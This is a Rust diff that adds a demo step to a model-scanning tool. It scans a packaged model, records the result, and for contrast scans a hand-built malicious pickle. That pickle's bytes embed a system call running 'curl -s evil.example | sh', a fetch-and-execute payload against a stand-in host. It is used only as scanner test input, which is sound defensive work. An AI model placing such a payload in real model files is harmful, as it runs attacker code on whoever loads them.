@@ -530,6 +530,36 @@ pub fn run(g: &Global, keep: Option<&Path>) -> Result<ExitCode, Failure> {
             attached.missing.len()
         );
     }
+    // The scanners: the package's files (recorded; production needs a scan),
+    // and, for contrast, a pickled "model" that runs a command when loaded.
+    let scan_opts = warden_scan::Options {
+        digests: true,
+        ..warden_scan::Options::default()
+    };
+    let scanned = sam.scan_model(&credit1, &scan_opts, &|_, _| {})?;
+    let recorded = sam.record_scan(&scanned, Some(&credit1), "credit@1")?;
+    let hostile = warden_scan::scan_bytes(
+        b"cos\nsystem\n(S'curl -s evil.example | sh'\ntR.",
+        warden_scan::Profile::Auto,
+    );
+    if !json {
+        println!(
+            "scanned     credit@1: {} file(s), highest severity {} (scan {} recorded)",
+            recorded.files, recorded.max_severity, recorded.id
+        );
+        for f in hostile.files.iter().flat_map(|f| &f.findings) {
+            println!(
+                "scanned     a pickled model from elsewhere: {} {}: {}",
+                f.severity.as_str(),
+                f.rule,
+                f.message
+            );
+        }
+    }
+    summary.insert(
+        "scan_max_severity".into(),
+        recorded.max_severity.clone().into(),
+    );
     for (who, key) in [("lee", "lee-approvals"), ("kim", "kim-approvals")] {
         let k = name(key, KeyName::new)?;
         ana.keys_generate(&k, Algorithm::Ed25519)?;
